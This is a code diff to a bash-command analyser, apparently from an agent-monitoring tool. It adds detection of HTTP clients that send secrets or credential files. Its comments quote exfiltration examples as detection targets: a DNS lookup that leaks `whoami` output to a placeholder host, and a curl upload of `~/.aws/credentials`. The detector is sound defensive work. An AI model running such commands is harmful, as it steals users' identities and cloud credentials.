@@ -97,7 +97,7 @@ function fileOperands(g: CmdFact): Set<Val> {
 const listsOwn = (g: CmdFact, fam: string): boolean =>
   g.fam === fam && g.flags.has('-l') && g.positional.length === 0;
 /** what `carries` asks of a command: the user's or host's name, a secret, anything computed */
-type SentKind = 'identity' | 'secret' | 'computed';
+type SentKind = 'identity' | 'secret' | 'computed' | 'credential';
 /**
  * What an HTTP client sends: its URL-like and `k=v` operands, and the values of its data, form
  * and header options, each with the pattern that finds a file it sends instead (`-d @FILE`)
@@ -1012,6 +1012,7 @@ export class BashRun {
 
   private sendsOne(f: CmdFact, kind: SentKind): boolean {
     if (kind === 'computed') return HTTP_CLIENTS.has(f.fam) && httpSent(f).some(computedSent);
+    if (kind === 'credential') return HTTP_CLIENTS.has(f.fam) && this.sendsCredential(f);
     const has = (v: Val) => (kind === 'identity' ? this.hasIdentity(v) : this.hasSecretVar(v));
     // `whoami | xargs -I{} nslookup {}.x.example`: the items stand where the placeholder is
     let viaStdin: boolean | undefined;
@@ -1046,6 +1047,24 @@ export class BashRun {
       const path = file?.exec(v.s)?.[1];
       if (path !== undefined) return this.fileSendsIdentity(path);
       return v.s.includes(UNKNOWN) && this.hasIdentity(v);
+    });
+  }
+
+  /**
+   * An HTTP client sends a secret anywhere in its request: a secret-named environment variable in
+   * its URL, data, form or header values (also through the commands that print it), or what a
+   * command the exfiltration rules take secrets from prints (a credential file, `gh auth token`,
+   * the agent's config through jq), in those values, on its stdin or in a file it uploads (the
+   * client reading a credential file itself, `--data-binary @"$HOME/.aws/credentials"`).
+   */
+  private sendsCredential(f: CmdFact): boolean {
+    const sent = httpSent(f).map(([v]) => v);
+    if (sent.some((v) => this.hasSecretVar(v))) return true;
+    const from = new Set<number>([f.id, ...this.flow.stdin(f)]);
+    for (const v of sent) for (const s of this.flow.val(v)) from.add(s);
+    return [...from].some((id) => {
+      const g = this.flow.fact(id);
+      return g !== undefined && this.secretSources.some((t) => t(g));
     });
   }
 
@@ -1900,7 +1919,8 @@ function planFor(m: BashMatch): Plan {
     const ownJob = m.command.job?.includes('own');
     const notOwnJob = m.command.notJob?.includes('own');
     const carries = m.command.carries?.filter(
-      (k): k is SentKind => k === 'identity' || k === 'secret' || k === 'computed',
+      (k): k is SentKind =>
+        k === 'identity' || k === 'secret' || k === 'computed' || k === 'credential',
     );
     const agentJob = m.command.agentJob;
     const client = m.command.client?.includes('issuer')
